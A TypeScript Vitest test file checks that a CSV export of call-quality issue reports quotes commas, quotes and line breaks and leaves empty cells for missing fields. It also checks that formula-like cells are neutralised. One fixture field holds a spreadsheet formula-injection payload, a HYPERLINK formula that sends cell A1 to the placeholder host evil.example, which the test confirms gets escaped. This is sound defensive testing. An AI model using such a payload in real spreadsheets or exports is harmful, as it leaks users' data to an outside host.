import { describe, expect, it } from 'vitest';
import { csvCell, csvHeader, csvRow } from '../../functions/domain/report-csv.ts';
import type { IssueReport } from '../../functions/domain/report-model.ts';

/** A strict RFC 4180 reader: the export must read back field for field. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else if (ch === '\n' || ch === '\r') throw new Error(`bare line break at ${i}`);
    else field += ch;
  }
  if (quoted) throw new Error('unterminated quote');
  if (field !== '' || row.length > 0) throw new Error('last line without CRLF');
  return rows;
}

const report: IssueReport = {
  tenant: 'acme',
  id: '0123456789abcdef0123456789abcdef',
  agent: 'alice',
  agentName: 'Smith, Alice "Ali"',
  category: 'poor-sound-quality',
  severity: 'terrible',
  notes: 'Echo on every call,\r\nthen "robot voice"\nafter 10 min',
  occurredAt: '2026-11-27T08:00:00.000Z',
  reportedAt: '2026-11-27T08:05:00.000Z',
  contactId: '0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b',
  errorShown: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  alert: { id: 'al-1', type: 'network.jitter', verified: false },
  cpuPercent: 93.5,
  memoryPercent: 71,
  browserName: 'Chrome',
  browserVersion: '131.0.6778.86',
  extensionVersion: '2.4.1',
  team: 'blue',
  queues: ['sales', 'support'],
  status: { code: 'in-call', label: 'In a call' },
  requestHash: 'h',
  expiresAt: 0,
};

describe('CSV export of reports', () => {
  it('quotes commas, quotes and line breaks, and reads back field for field', () => {
    const rows = parseCsv(csvHeader() + csvRow(report));
    expect(rows).toHaveLength(2);
    const [header = [], row = []] = rows;
    const get = (name: string) => row[header.indexOf(name)];
    expect(header).toHaveLength(row.length);
    expect(get('agentName')).toBe('Smith, Alice "Ali"');
    expect(get('notes')).toBe('Echo on every call,\r\nthen "robot voice"\nafter 10 min');
    expect(get('queues')).toBe('sales;support');
    expect(get('categoryLabel')).toBe('Poor sound quality');
    expect(get('severityLabel')).toBe('Terrible');
    expect(get('statusLabel')).toBe('In a call');
    expect(get('alertVerified')).toBe('false');
    expect(get('cpuPercent')).toBe('93.5');
    // Formula-safe: the spreadsheet shows the text instead of running it.
    expect(get('errorShown')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
  });

  it('neutralises every cell a spreadsheet would read as a formula', () => {
    for (const evil of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '＝1', '＠SUM(A1)'])
      expect(csvCell(evil).replace(/^"/, '').startsWith("'"), JSON.stringify(evil)).toBe(true);
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('-')).toBe("'-");
  });

  it('leaves ordinary text, numbers and empty values as they are', () => {
    expect(csvCell('Poor sound quality')).toBe('Poor sound quality');
    expect(csvCell('a-b=c')).toBe('a-b=c');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(' padded ')).toBe('" padded "');
  });

  it('writes empty cells for what a report does not have', () => {
    const bare: IssueReport = {
      tenant: 'acme',
      id: 'ffffffffffffffffffffffffffffffff',
      agent: 'bob',
      category: 'something-else',
      severity: 'minor',
      occurredAt: '2026-11-27T08:00:00.000Z',
      reportedAt: '2026-11-27T08:00:00.000Z',
      queues: [],
      requestHash: 'h',
      expiresAt: 0,
    };
    const [header = [], row = []] = parseCsv(csvHeader() + csvRow(bare));
    expect(row[header.indexOf('notes')]).toBe('');
    expect(row[header.indexOf('team')]).toBe('');
    expect(row[header.indexOf('alertId')]).toBe('');
    expect(row[header.indexOf('agent')]).toBe('bob');
  });
});
